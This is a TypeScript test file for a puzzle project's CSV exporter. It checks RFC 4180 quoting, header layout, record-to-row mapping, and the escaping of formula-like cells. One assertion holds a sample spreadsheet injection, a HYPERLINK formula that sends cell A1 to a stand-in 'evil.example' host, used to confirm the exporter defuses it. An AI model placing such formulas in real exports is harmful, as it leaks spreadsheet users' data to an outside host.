// Tests for src/formats/csv.ts: any field text survives RFC 4180 quoting (a formula-like one with
// a leading apostrophe, so a spreadsheet never runs it), and puzzles of every kind share one
// header, each row its record (src/formats/record.ts) with the size flattened, null an empty cell.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvField, csvHeader, csvRow } from '../../src/formats/csv.js';
import { RECORD_FIELDS, recordOf } from '../../src/formats/record.js';
import type { PackPuzzle } from '../../src/formats/kind.js';
import { allKinds } from '../../src/kinds.js';
import { SAMPLES } from '../helpers/packs.js';

/** Read one RFC 4180 record (no line end) back into its fields. */
function readRecord(line: string): string[] {
  const fields: string[] = [];
  let i = 0;
  for (;;) {
    let value = '';
    if (line[i] === '"') {
      i++;
      for (;;) {
        const q = line.indexOf('"', i);
        if (q < 0) throw new Error('unclosed quote');
        value += line.slice(i, q);
        if (line[q + 1] === '"') {
          value += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
    } else {
      const c = line.indexOf(',', i);
      const end = c < 0 ? line.length : c;
      value = line.slice(i, end);
      i = end;
    }
    fields.push(value);
    if (i >= line.length) return fields;
    expect(line[i]).toBe(',');
    i++;
  }
}

const FORMULA = /^[=+\-@\t\r]/;

describe('csvField', () => {
  it('quotes exactly when needed, and every list of fields reads back as it was, formulas behind an apostrophe', () => {
    const unit = fc.constantFrom('a', ',', '"', '\r', '\n', ' ', 'é', '=', '+', '-', '@', '\t', '1');
    fc.assert(
      fc.property(fc.array(fc.string({ unit }), { minLength: 1, maxLength: 6 }), (values) => {
        const line = values.map(csvField).join(',');
        expect(readRecord(line)).toEqual(values.map((v) => (FORMULA.test(v) ? `'${v}` : v)));
        for (const v of values) expect(csvField(v) === v).toBe(!/[",\r\n]/.test(v) && !FORMULA.test(v));
      }),
    );
  });

  it('never leaves a cell that a spreadsheet would read as a formula', () => {
    fc.assert(
      fc.property(fc.string(), (v) => {
        const cell = csvField(v);
        const shown = cell.startsWith('"') ? cell.slice(1) : cell;
        expect(shown).not.toMatch(FORMULA);
      }),
    );
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"singles")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""singles"")"',
    );
  });
});

describe('csvRow of every kind', () => {
  const kinds = allKinds();
  const pool: PackPuzzle[] = kinds.flatMap((k) => SAMPLES[k.name]?.(6, { graded: true }) ?? []);

  it('has one header: the record’s fields in their order, size as size_key and size_label', () => {
    expect(CSV_COLUMNS).toEqual(RECORD_FIELDS.flatMap((f) => (f === 'size' ? ['size_key', 'size_label'] : [f])));
    expect(csvHeader()).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
  });

  it('writes each puzzle as its record: every field as the json pack has it, null an empty cell', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pool), { maxLength: 8 }), (puzzles) => {
        for (const p of puzzles) {
          const line = csvRow(p, kinds);
          expect(line.endsWith('\r\n')).toBe(true);
          // Nothing a sample holds needs quotes.
          expect(line).not.toContain('"');
          const f = Object.fromEntries(
            line
              .slice(0, -2)
              .split(',')
              .map((v, k) => [CSV_COLUMNS[k], v]),
          );
          expect(Object.keys(f).length).toBe(CSV_COLUMNS.length);
          const { size, ...rest } = recordOf(p, kinds);
          const cells = Object.fromEntries(Object.entries(rest).map(([k, v]) => [k, v === null ? '' : String(v)]));
          expect(f).toEqual({ ...cells, size_key: size.key, size_label: size.label });
        }
      }),
      { numRuns: 20 },
    );
  });
});
